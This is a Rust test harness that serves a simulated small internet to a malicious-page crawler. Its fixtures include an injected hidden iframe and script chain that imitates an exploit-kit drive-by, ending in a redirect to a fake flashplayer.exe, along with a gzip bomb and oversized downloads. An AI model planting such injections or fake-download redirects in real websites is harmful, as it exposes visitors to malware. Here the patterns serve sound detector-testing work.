//! A small "internet" on loopback: one HTTP server and one HTTPS server (certificate from a
//! test CA made with rcgen), both routing by host name; the crawler reaches them through its
//! host → address override table.

#![allow(dead_code)]

use std::collections::BTreeMap;
use std::io::Write as _;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::Router;
use axum::body::Body;
use axum::extract::{Request, State};
use axum::http::{StatusCode, header};
use axum::response::{IntoResponse, Response};

use kizuna_crawl::CrawlConfig;

/// Server-side state the tests can change.
pub struct Sites {
    /// The blog's owner cleaned it.
    pub blog_fixed: AtomicBool,
    /// Every request seen: "host/path".
    pub hits: Mutex<Vec<String>>,
    /// 4 MiB of HTML gzipped to a few KiB: the cap must apply to decompressed bytes.
    pub bomb: Vec<u8>,
}

fn gzip_bomb() -> Vec<u8> {
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(b"<html><body>").expect("gz");
    let filler = vec![b' '; 1 << 20];
    for _ in 0..4 {
        gz.write_all(&filler).expect("gz");
    }
    gz.finish().expect("gz")
}

pub const MARKER_EXE: &[u8] =
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00This program cannot be run in DOS mode.\r\n\
    (harmless test sample: no code) KIZUNA-TEST-MALWARE-MARKER\x00\x00\x00\x00";

pub const BLOG_INJECTED: &str = r#"<!DOCTYPE html><html lang="ja"><head><meta charset="utf-8"><title>山田の日記</title>
<script src="/wp-includes/js/jquery.js"></script><link rel="stylesheet" href="/style.css"></head>
<body><h1>山田の日記</h1><article><h2>今日の天気</h2><p>晴れ。散歩に行った。</p><a href="/2026/11/30/">前の記事</a></article>
<iframe src="http://tds.example.net/in?c=7" width="0" height="0" frameborder="0" style="visibility:hidden;position:absolute"></iframe>
</body></html>"#;

pub const BLOG_CLEAN: &str = r#"<!DOCTYPE html><html lang="ja"><head><meta charset="utf-8"><title>山田の日記</title>
<script src="/wp-includes/js/jquery.js"></script></head><body><h1>山田の日記</h1><p>晴れ。</p></body></html>"#;

const SHOP: &str = r#"<html><head><title>Shop</title><script src="http://tds.example.net/js/counter.js"></script></head>
<body><p>Welcome to our shop</p></body></html>"#;

const GATE: &str = r#"<html><head><script>
var v = PluginDetect.getVersion("Java"); var f = PluginDetect.getVersion("Flash");
</script></head><body><object data="http://gate.example.org/media/movie.swf" type="application/x-shockwave-flash"></object>
<script>setTimeout(function(){ window.location.href = "http://dl.example.com/update/flashplayer.exe"; }, 10);</script>
</body></html>"#;

const CLEAN: &str = r#"<html><head><title>Clean</title><script src="/app.js"></script>
<script src="http://cdn.example.jp/lib.js"></script></head>
<body><p>Nothing to see.</p><iframe src="http://video.example.jp/embed/1" width="560" height="315"></iframe>
<a href="/about.html">about</a><a href="/docs/manual.pdf">manual</a></body></html>"#;

const MALFORMED: &[u8] =
    b"<html><head><title>broken</title ><b><meta http-equiv=refresh content='0;url=/next'\x00\xff\xfe\
    <script>var x = '</scr' + 'ipt>'; if (a) { location.replace('http://clean.example.jp/') }</script\
    <iframe src=\"http://video.example.jp/embed/2\" <<<<>>>> <div <div <div </b></i></table></tr>\
    <svg><foreignObject><iframe src=//video.example.jp/embed/3></svg><!-- unclosed comment <iframe src=x>";

/// Host name from the Host header (HTTP/1.1) or the URI authority (HTTP/2).
fn host_of(req: &Request) -> String {
    req.headers()
        .get(header::HOST)
        .and_then(|h| h.to_str().ok())
        .map(str::to_owned)
        .or_else(|| req.uri().authority().map(|a| a.to_string()))
        .map(|h| h.split(':').next().unwrap_or("").to_ascii_lowercase())
        .unwrap_or_default()
}

fn html(s: impl Into<Body>) -> Response {
    ([(header::CONTENT_TYPE, "text/html; charset=utf-8")], s.into()).into_response()
}

fn redirect(code: StatusCode, to: &str) -> Response {
    (code, [(header::LOCATION, to.to_owned())], "").into_response()
}

fn text(s: &str) -> Response {
    ([(header::CONTENT_TYPE, "text/plain; charset=utf-8")], s.to_owned()).into_response()
}

async fn route(State(st): State<Arc<Sites>>, req: Request) -> Response {
    let host = host_of(&req);
    let path = req.uri().path().to_owned();
    let query = req.uri().query().map(|q| format!("?{q}")).unwrap_or_default();
    st.hits.lock().expect("hits").push(format!("{host}{path}{query}"));
    match (host.as_str(), path.as_str()) {
        ("blog.example.jp", "/") => {
            if st.blog_fixed.load(Ordering::SeqCst) {
                html(BLOG_CLEAN)
            } else {
                html(BLOG_INJECTED)
            }
        }
        ("blog.example.jp", "/.well-known/security.txt") => text(
            "# security contact of blog.example.jp\nContact: mailto:security@blog.example.jp\n\
             Expires: 2099-12-31T23:59:59Z\nPreferred-Languages: ja, en\n",
        ),
        ("shop.example.jp", "/") => html(SHOP),
        ("tds.example.net", "/in") => redirect(StatusCode::FOUND, "http://gate.example.org/land?id=7"),
        ("tds.example.net", "/js/counter.js") => (
            [(header::CONTENT_TYPE, "application/javascript")],
            "document.write('<iframe src=\"http://gate.example.org/land?id=9\" width=1 height=1></iframe>');",
        )
            .into_response(),
        ("gate.example.org", "/land") => html(GATE),
        ("gate.example.org", "/media/movie.swf") => {
            ([(header::CONTENT_TYPE, "application/x-shockwave-flash")], &b"CWS\x0a\x00\x10\x00\x00x\x9c"[..])
                .into_response()
        }
        ("dl.example.com", "/update/flashplayer.exe") => (
            [
                (header::CONTENT_TYPE, "application/octet-stream"),
                (header::CONTENT_DISPOSITION, "attachment; filename=\"flashplayer.exe\""),
            ],
            MARKER_EXE,
        )
            .into_response(),
        ("clean.example.jp", "/") => html(CLEAN),
        ("clean.example.jp", "/app.js") => {
            ([(header::CONTENT_TYPE, "application/javascript")], "console.log('hi')").into_response()
        }
        ("clean.example.jp", "/docs/manual.pdf") => {
            ([(header::CONTENT_TYPE, "application/pdf")], &b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF"[..])
                .into_response()
        }
        ("cdn.example.jp", "/lib.js") => {
            ([(header::CONTENT_TYPE, "application/javascript")], "var lib = {};").into_response()
        }
        ("video.example.jp", _) => html("<html><body><video src=\"/v.mp4\"></video></body></html>"),
        ("loop.example.jp", "/a") => redirect(StatusCode::MOVED_PERMANENTLY, "/b"),
        ("loop.example.jp", "/b") => redirect(StatusCode::FOUND, "http://loop.example.jp/a"),
        ("slow.example.jp", "/") => {
            tokio::time::sleep(Duration::from_secs(5)).await;
            html("<html>finally</html>")
        }
        ("slowbody.example.jp", "/") => {
            let chunks = futures_util::stream::unfold(0u32, |i| async move {
                if i > 0 {
                    tokio::time::sleep(Duration::from_secs(5)).await;
                }
                (i < 2).then(|| (Ok::<_, std::io::Error>(axum::body::Bytes::from_static(b"<html><body>")), i + 1))
            });
            ([(header::CONTENT_TYPE, "text/html")], Body::from_stream(chunks)).into_response()
        }
        ("huge.example.jp", "/") => html(r#"<html><body><a href="/files/big.zip">download</a></body></html>"#),
        ("huge.example.jp", "/files/big.zip") => {
            // 64 MiB, streamed: the crawler must stop at its cap.
            let chunks = futures_util::stream::unfold(0u32, |i| async move {
                (i < 1024).then(|| {
                    let mut c = vec![0u8; 64 * 1024];
                    if i == 0 {
                        c[..4].copy_from_slice(b"PK\x03\x04");
                    }
                    (Ok::<_, std::io::Error>(axum::body::Bytes::from(c)), i + 1)
                })
            });
            ([(header::CONTENT_TYPE, "application/zip")], Body::from_stream(chunks)).into_response()
        }
        ("bomb.example.jp", "/") => {
            ([(header::CONTENT_TYPE, "text/html"), (header::CONTENT_ENCODING, "gzip")], st.bomb.clone()).into_response()
        }
        ("broken.example.jp", "/") => html(MALFORMED),
        ("broken.example.jp", "/next") => html("<html><body>next</body></html>"),
        ("secure.example.jp", "/") => {
            html(r#"<html><head><meta http-equiv="refresh" content="0; url=/welcome"></head><body>moved</body></html>"#)
        }
        ("secure.example.jp", "/welcome") => html("<html><body>welcome over TLS</body></html>"),
        _ => (StatusCode::NOT_FOUND, "not found").into_response(),
    }
}

/// The running servers.
pub struct World {
    pub http: SocketAddr,
    pub https: SocketAddr,
    pub sites: Arc<Sites>,
    pub ca_pem: PathBuf,
    pub dir: tempfile::TempDir,
}

pub const HTTP_HOSTS: &[&str] = &[
    "blog.example.jp",
    "shop.example.jp",
    "tds.example.net",
    "gate.example.org",
    "dl.example.com",
    "clean.example.jp",
    "cdn.example.jp",
    "video.example.jp",
    "loop.example.jp",
    "slow.example.jp",
    "slowbody.example.jp",
    "huge.example.jp",
    "bomb.example.jp",
    "broken.example.jp",
];

impl World {
    pub async fn start() -> World {
        let dir = tempfile::tempdir().expect("tempdir");
        let sites =
            Arc::new(Sites { blog_fixed: AtomicBool::new(false), hits: Mutex::new(Vec::new()), bomb: gzip_bomb() });
        let app = Router::new().fallback(route).with_state(sites.clone());

        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
        let http = listener.local_addr().expect("addr");
        let a = app.clone();
        tokio::spawn(async move {
            let _ = axum::serve(listener, a).await;
        });

        // Test CA and a server certificate for secure.example.jp.
        let ca_key = rcgen::KeyPair::generate().expect("ca key");
        let mut ca_params = rcgen::CertificateParams::new(Vec::<String>::new()).expect("ca params");
        ca_params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
        ca_params.distinguished_name.push(rcgen::DnType::CommonName, "kizuna test CA");
        ca_params.key_usages = vec![rcgen::KeyUsagePurpose::KeyCertSign, rcgen::KeyUsagePurpose::CrlSign];
        let ca_cert = ca_params.self_signed(&ca_key).expect("ca cert");
        let ca = rcgen::Issuer::new(ca_params, ca_key);
        let key = rcgen::KeyPair::generate().expect("key");
        let params = rcgen::CertificateParams::new(vec!["secure.example.jp".to_owned()]).expect("params");
        let cert = params.signed_by(&key, &ca).expect("cert");
        let ca_pem = dir.path().join("test-ca.pem");
        std::fs::write(&ca_pem, ca_cert.pem()).expect("write ca");

        let provider = Arc::new(rustls::crypto::ring::default_provider());
        let mut tls = rustls::ServerConfig::builder_with_provider(provider)
            .with_safe_default_protocol_versions()
            .expect("versions")
            .with_no_client_auth()
            .with_single_cert(
                vec![cert.der().clone()],
                rustls_pki_types::PrivateKeyDer::Pkcs8(key.serialize_der().into()),
            )
            .expect("server cert");
        tls.alpn_protocols = vec![b"h2".to_vec(), b"http/1.1".to_vec()];
        let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(tls));
        let tls_listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind tls");
        let https = tls_listener.local_addr().expect("addr");
        tokio::spawn(async move {
            loop {
                let Ok((tcp, _)) = tls_listener.accept().await else { return };
                let acceptor = acceptor.clone();
                let app = app.clone();
                tokio::spawn(async move {
                    let Ok(stream) = acceptor.accept(tcp).await else { return };
                    let svc = hyper_util::service::TowerToHyperService::new(app);
                    let _ = hyper_util::server::conn::auto::Builder::new(hyper_util::rt::TokioExecutor::new())
                        .serve_connection(hyper_util::rt::TokioIo::new(stream), svc)
                        .await;
                });
            }
        });
        World { http, https, sites, ca_pem, dir }
    }

    /// A crawler configuration for this world: every name pinned to the loopback servers, the
    /// test CA trusted, the repository's sample YARA rules, short timeouts, small caps.
    pub fn config(&self) -> CrawlConfig {
        let mut resolve = BTreeMap::new();
        for h in HTTP_HOSTS {
            resolve.insert((*h).to_owned(), self.http);
        }
        resolve.insert("secure.example.jp".to_owned(), self.https);
        let mut c = CrawlConfig { resolve, data_dir: Some(self.dir.path().join("crawl")), ..CrawlConfig::default() };
        c.tls.extra_root_certs = vec![self.ca_pem.clone()];
        c.tls.no_builtin_roots = true;
        c.judge.yara_dir = Some(repo_root().join("data/yara"));
        c.limits.connect_timeout_ms = 1_000;
        c.limits.read_timeout_ms = 1_000;
        c.limits.total_timeout_ms = 2_000;
        c.limits.max_download_bytes = 1 << 20;
        c.limits.max_page_bytes = 1 << 20;
        c.rate.per_host_rps = 1_000.0;
        c.rate.per_host_burst = 100;
        c
    }
}

pub fn repo_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..").canonicalize().expect("repo root")
}

/// The test venv's Python (scripts/setup-test-deps.sh makes it).
pub fn venv_python() -> PathBuf {
    let venv =
        std::env::var_os("KIZUNA_TEST_VENV").map(PathBuf::from).unwrap_or_else(|| repo_root().join(".venv-test"));
    let py = venv.join("bin/python");
    assert!(py.exists(), "{} missing: run scripts/setup-test-deps.sh", py.display());
    py
}

/// A real MTA on loopback: aiosmtpd writing to a Maildir.
pub struct Mta {
    pub port: u16,
    pub maildir: PathBuf,
    child: std::process::Child,
}

impl Mta {
    pub fn start(dir: &Path) -> Mta {
        let port = std::net::TcpListener::bind("127.0.0.1:0").expect("port").local_addr().expect("addr").port();
        let maildir = dir.join("maildir");
        let child = std::process::Command::new(venv_python())
            .args(["-m", "aiosmtpd", "-n", "-l", &format!("127.0.0.1:{port}"), "-c", "aiosmtpd.handlers.Mailbox"])
            .arg(&maildir)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .expect("start aiosmtpd");
        let mut mta = Mta { port, maildir, child };
        for _ in 0..200 {
            if std::net::TcpStream::connect(("127.0.0.1", port)).is_ok() {
                return mta;
            }
            if let Ok(Some(status)) = mta.child.try_wait() {
                panic!("aiosmtpd exited: {status}");
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        let _ = mta.child.kill();
        let _ = mta.child.wait();
        panic!("aiosmtpd did not start on port {port}");
    }

    /// Messages delivered so far, decoded by Python's email package: (to, subject, body).
    pub fn messages(&self) -> Vec<(String, String, String)> {
        let script = r#"
import json, mailbox, sys
box = mailbox.Maildir(sys.argv[1], create=False)
out = []
for key in sorted(box.keys()):
    m = box[key]
    out.append([m["To"], str(m["Subject"]), m.get_payload(decode=True).decode("utf-8")])
print(json.dumps(out))
"#;
        if !self.maildir.exists() {
            return Vec::new();
        }
        let out = std::process::Command::new(venv_python())
            .args(["-c", script])
            .arg(&self.maildir)
            .output()
            .expect("read maildir");
        assert!(out.status.success(), "maildir read failed: {}", String::from_utf8_lossy(&out.stderr));
        serde_json::from_slice::<Vec<(String, String, String)>>(&out.stdout).expect("json")
    }
}

impl Drop for Mta {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}
